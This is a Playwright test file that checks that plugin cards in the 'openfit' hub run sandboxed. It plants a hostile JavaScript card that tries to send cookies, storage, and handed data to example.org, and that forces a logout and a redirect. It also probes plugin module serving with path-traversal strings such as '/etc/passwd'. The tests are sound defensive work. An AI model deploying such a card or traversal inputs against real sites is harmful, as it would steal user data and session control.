"""Cards of plugins: they are handed what they declare, and reach nothing else."""

import json
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect
from support import files, hubs
from support.pages import complaints, overflow, settled

from .conftest import Served, serve

MANIFEST = """
id = "{id}"
name = "{id} plugin"
sdk = "1"
data_types = []
[auth]
type = "none"
[[cards]]
id = "one"
title = "{id} card"
module = "cards/one.js"
reads = ["activities"]
"""
HOSTILE = """
const tried = {};
const attempt = async (name, work) => {
  try { tried[name] = String(await work()); } catch (error) { tried[name] = "refused"; }
};
const asked = (url, how) => fetch(url, how).then((answer) => answer.status);
addEventListener("message", async ({ data }) => {
  await attempt("api", () => asked("/api/v1/activities?stolen", { credentials: "include" }));
  await attempt("elsewhere", () => asked("https://example.org/?stolen"));
  navigator.sendBeacon("/api/v1/activities?stolen", "x");
  await attempt("socket", () => new Promise((yes, no) => {
    const socket = new WebSocket("ws://localhost:9/");
    socket.onopen = yes; socket.onerror = no;
  }));
  await attempt("image", () => new Promise((yes, no) => {
    const image = new Image();
    image.onload = yes; image.onerror = no; image.src = "/static/icon-192.png?stolen";
  }));
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("x"));
  await attempt("page", () => parent.document.title);
  await attempt("top", () => { top.location = "https://example.org/"; return "gone"; });
  await attempt("popup", () => window.open("https://example.org/") ? "opened" : Promise.reject());
  await attempt("code", () => eval("1 + 1"));
  await attempt("page_module", () => import("/static/session.js").then(() => "loaded"));
  const form = document.createElement("form");
  form.action = "/api/v1/auth/logout"; form.method = "post";
  document.body.append(form); form.submit();
  const [handed, said] = [Object.keys(data.data).sort(), Object.keys(data).sort()];
  document.getElementById("card").textContent = JSON.stringify({ tried, handed, said });
  parent.postMessage({ type: "openfit:height", height: 1e9 }, "*");
  setTimeout(() => { location = "https://example.org/?" + JSON.stringify(data); }, 300);
});
parent.postMessage({ type: "openfit:ready" }, "*");
"""


def install(folder: Path, id: str, module: str) -> None:
    """A plugin as an installer would leave it, on the path of the hub alone."""
    package = folder / f"card_{id}"
    (package / "cards").mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "secret.txt").write_text("not a card")
    (package / "manifest.toml").write_text(MANIFEST.format(id=id))
    (package / "cards" / "one.js").write_text(module)
    info = folder / f"card_{id}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: card-{id}\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(f"[openfit]\n{id} = card_{id}\n")


@pytest.fixture(scope="module")
def carded(tmp_path_factory) -> Iterator[Served]:
    """A hub with a card that means harm, and the example card."""
    data, plugins = tmp_path_factory.mktemp("carded"), tmp_path_factory.mktemp("plugins")
    install(plugins, "hostile", HOSTILE)
    hubs.import_lines(*files.folder(data / "files", 3), data=data)
    with pytest.MonkeyPatch.context() as patch:
        before = [path for path in sys.path if path.endswith(("core", "sdk", "schema"))]
        patch.setenv("PYTHONPATH", ":".join([str(plugins), *before]))
        yield from serve(data)


def test_the_example_card_draws_what_it_is_handed(page, carded):
    page.forgive("")
    page.goto(carded.link)
    settled(page)
    frame = page.locator("[data-card='fileimport/weeks']")
    frame.scroll_into_view_if_needed()
    drawn = frame.frame_locator("iframe")
    expect(drawn.locator("#card")).not_to_be_empty()
    assert frame.locator("iframe").bounding_box()["height"] >= 40
    assert overflow(page) <= 0


def test_a_card_that_means_harm_reaches_nothing(page, carded):
    page.forgive("")  # the browser writes down what it refuses
    answered: list[str] = []
    page.on("response", lambda response: "stolen" in response.url and answered.append(response.url))
    page.goto(carded.link)
    settled(page)
    card = page.locator("[data-card='hostile/one']")
    card.scroll_into_view_if_needed()
    frame = card.frame_locator("iframe")
    expect(frame.locator("#card")).to_contain_text("tried")
    said = json.loads(frame.locator("#card").inner_text())
    assert said["handed"] == ["activities", "first", "last"]
    assert said["said"] == ["data", "language", "scheme", "theme", "type", "units"]
    assert set(said["tried"].values()) == {"refused"}, said["tried"]
    page.wait_for_timeout(600)
    assert answered == []
    assert page.url == f"{carded.url}/"
    assert len(page.context.pages) == 1
    assert card.locator("iframe").bounding_box()["height"] <= 800
    assert page.evaluate("localStorage.getItem('openfit.token')") == carded.token


def test_nothing_but_modules_below_cards_is_served(page, carded):
    place = f"{carded.url}/plugin-cards/hostile/modules"
    found = page.request.get(f"{place}/cards/one.js")
    assert (found.status, found.headers["content-type"]) == (200, "text/javascript; charset=utf-8")
    for name in (
        "secret.txt",
        "manifest.toml",
        "__init__.py",
        "cards/../secret.txt",
        "cards/no.js",
        "cards/%2e%2e/%2e%2e/secret.js",
        "cards//etc/passwd.js",
    ):
        assert (name, page.request.get(f"{place}/{name}").status) == (name, 404)
    assert page.request.get(f"{carded.url}/plugin-cards/nobody/modules/cards/one.js").status == 404
    assert page.request.get(f"{carded.url}/plugin-cards/hostile/two").status == 404


def test_the_frame_of_a_card_is_sandboxed_however_it_is_opened(page, carded):
    answer = page.request.get(f"{carded.url}/plugin-cards/hostile/one")
    policy = answer.headers["content-security-policy"].split("; ")
    assert {"default-src 'none'", "connect-src 'none'", "sandbox allow-scripts"} <= {*policy}
    assert "frame-ancestors 'self'" in policy
    assert "set-cookie" not in answer.headers


def test_axe_finds_nothing_beside_a_card(page, carded):
    page.forgive("")
    page.goto(carded.link)
    settled(page)
    page.locator("[data-card='fileimport/weeks']").scroll_into_view_if_needed()
    assert complaints(page) == []
